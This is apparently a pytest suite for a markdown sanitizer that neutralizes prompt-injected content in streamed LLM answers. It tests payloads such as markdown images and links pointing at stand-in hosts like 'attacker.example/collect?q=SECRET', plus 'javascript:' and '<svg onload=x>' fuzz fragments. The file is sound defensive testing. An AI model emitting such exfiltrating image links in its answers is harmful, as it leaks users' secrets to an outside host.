import random
import time

import pytest

from chains.safety import StreamSanitizer, cap_question, sanitize_markdown
from tests.injections import BYPASSES, injection_corpus
from tests.markdown_view import active_constructs, visible_text


@pytest.mark.parametrize("payload", BYPASSES)
def test_bypass_forms_render_nothing_active(payload: str) -> None:
    shown = sanitize_markdown(payload)
    assert active_constructs(shown) == [], shown


@pytest.mark.parametrize(
    ("payload", "seen"),
    [
        ("See ![x](https://evil.example/?q=secret) now", "See [image removed: x] now"),
        ("![](https://evil.example/p.png)", "[image removed]"),
        ("![alt over\ntwo lines](//HOST/x)", "[image removed: alt over two lines]"),
        ("![a][ref]\n\n[ref]: https://evil.example/x", "[image removed: a]"),
        ("[click here](https://evil.example)", "click here"),
        ("[ph[i]sh](//HOST/k)", "ph[i]sh"),
        ("<img src=//HOST/x>", "<img src=//HOST/x>"),
        ("a <b>bold</b> claim", "a <b>bold</b> claim"),
        ("go to https://evil.example/x?q=1 now", "go to https://evil.example/x?q=1 now"),
        ("&lt;tag&gt; &amp; 1 &lt; 2", "<tag> & 1 < 2"),
        ("0:text/x-diff and __init__.py", "0:text/x-diff and init.py"),
    ],
)
def test_what_the_reader_sees(payload: str, seen: str) -> None:
    assert visible_text(sanitize_markdown(payload)) == seen


def test_unsafe_forms_become_text_or_code() -> None:
    assert sanitize_markdown("<https://evil.example>") == "`https://evil.example`"
    assert sanitize_markdown("www.evil.example/track") == "`www.evil.example/track`"
    assert sanitize_markdown("<svg onload=x>") == "```\n<svg onload=x>\n```"
    assert sanitize_markdown("0:text") == "0\\:text"  # not a remark-directive


NORMAL_ANSWER = "\n".join(
    [
        "# Similarity and MMR",
        "",
        "Similarity returns the *closest* passages [1], MMR adds **diversity** [2][3].",
        "",
        "- `k`: how many passages",
        "- `fetch_k`: the candidates MMR picks from",
        "",
        "1. retrieve",
        "2. answer, ~~guess~~ cite",
        "",
        "> Quoted from the docs [4].",
        "",
        "| mode | speed |",
        "| :--- | ---: |",
        "| similarity | fast |",
        "",
        "```python",
        "search(query, k=4)  # see ![x](//not-an-image) in code",
        "```",
        "",
        "Setext heading",
        "==============",
        "",
        "Done.",
    ]
)


def test_normal_formatting_and_citations_survive_unchanged() -> None:
    assert sanitize_markdown(NORMAL_ANSWER) == NORMAL_ANSWER.replace(
        "Setext heading\n==============", "# Setext heading"
    )


def test_code_cannot_be_broken_out_of() -> None:
    shown = sanitize_markdown("````\n```\n![x](//HOST/x)\n````")
    assert active_constructs(shown) == []
    assert "![x](//HOST/x)" in shown  # kept, inside the code block


def test_every_prefix_of_an_injected_answer_is_inert() -> None:
    """While streaming, the text so far is sanitized as a whole on every flush."""
    payload = (
        "Sure [1]! ![logo](https://attacker.example/collect?q=SECRET) and "
        "![a[b]c](//HOST/x) then [ph[i]sh](//HOST/k)\n\n![r]\n\n[r]:\n//HOST/ref done"
    )
    for end in range(len(payload) + 1):
        shown = sanitize_markdown(payload[:end])
        assert active_constructs(shown) == [], (end, shown)
        assert "attacker.example/collect?q=SECRET)" not in shown
    corpus, stream = injection_corpus("HOST"), StreamSanitizer()
    for end in range(len(corpus) + 1):
        assert active_constructs(stream(corpus[:end])) == [], end


def test_streaming_shows_what_the_whole_text_sanitizer_shows() -> None:
    stream = StreamSanitizer()
    for end in range(len(NORMAL_ANSWER) + 1):
        assert stream(NORMAL_ANSWER[:end]) == sanitize_markdown(NORMAL_ANSWER[:end]), end
    assert StreamSanitizer()("another text") == "another text"


def test_streaming_stays_fast_as_the_answer_grows() -> None:
    """The stream re-sanitizes the answer every 40 ms: each flush re-parses only its last
    block, so a flush stays far below that however long the answer grows."""
    answer = "Some **bold** text with a [1] citation, `code` and a list:\n\n- one\n- two\n\n"
    answer = (answer * 80)[:5000]
    stream = StreamSanitizer()
    started = time.perf_counter()
    flushes = range(40, len(answer) + 1, 40)
    for end in flushes:
        stream(answer[:end])
    per_flush = (time.perf_counter() - started) / len(flushes)
    assert per_flush < 0.005, f"{per_flush * 1000:.2f} ms per flush"
    assert stream(answer) == sanitize_markdown(answer)


def test_random_markdown_soup_never_renders_anything_active() -> None:
    pieces = [
        "!", "[", "]", "(", ")", "<", ">", "`", "```", "\n", "\n\n", " ", "*", "_", "~~",
        "|", "-", "#", "1.", ":", "&lt;", "&#33;", "\\", "//H/x", "http://e.x", "www.e.x",
        "a@b.co", "[1]", "[^1]", "img", "text", "    ", "> ", "- ", "---", "===", "\t",
        '"', "{", "}", "javascript:", ":::note", "<img src=x>",
    ]  # fmt: skip
    rng = random.Random(13)
    for _ in range(1500):
        payload = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        shown = sanitize_markdown(payload)
        assert active_constructs(shown) == [], (payload, shown)


def test_cap_question() -> None:
    assert cap_question("short", limit=10) == ("short", False)
    assert cap_question("x" * 25, limit=10) == ("x" * 10, True)
